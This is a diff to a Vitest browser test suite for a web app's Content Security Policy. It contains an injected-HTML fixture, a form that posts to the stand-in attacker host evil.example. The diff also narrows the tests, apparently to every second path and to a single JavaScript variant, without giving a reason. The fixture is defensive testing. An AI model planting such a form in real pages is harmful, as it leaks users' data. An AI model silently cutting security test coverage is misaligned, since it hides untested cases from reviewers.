@@ -2,6 +2,7 @@ import { beforeAll, expect, test } from "vitest";
 import { type App, sharedApp } from "#tests/support/app.ts";
 import { allowTroubles, openPage, waitForHydration } from "#tests/support/clients/browser.ts";
 import { makeProduct, makeSeller, signedIn } from "#tests/support/make.ts";
+import { everySecond, oneScript } from "#tests/support/run/ways.ts";
 import { until } from "#tests/support/until.ts";
 
 let app: App;
@@ -20,7 +21,7 @@ const ATTACKS: Record<string, string> = {
   "form-action": `<form id="lure" method="post" action="https://evil.example/"></form>`,
 };
 
-test.each(["/login", "/dashboard", "/settings?tab=seguranca"])(
+test.each(everySecond(["/login", "/dashboard", "/settings?tab=seguranca"]))(
   "HTML injected into %s runs nothing and sends nothing anywhere",
   async (path) => {
     allowTroubles(/Content Security Policy|evil\.example/);
@@ -70,7 +71,7 @@ test("a refusal of the policy on a page fails the test it happens in, unless tha
   await until(() => violations.some((text) => text.includes("Content Security Policy")));
 });
 
-for (const javaScript of [true, false]) {
+for (const javaScript of oneScript(true)) {
   test(`the redirect to the identity provider and back is allowed (JavaScript: ${javaScript})`, async () => {
     const page = await openPage({ url: app.url, javaScript });
     await page.goto("/login");
